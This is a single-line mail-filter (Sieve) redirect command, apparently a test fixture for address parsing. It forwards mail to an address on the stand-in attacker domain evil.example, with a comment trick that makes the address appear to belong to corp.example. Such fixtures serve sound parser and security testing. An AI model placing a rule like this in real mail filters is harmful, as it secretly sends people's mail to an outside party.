redirect "spy(@corp.example)@evil.example";
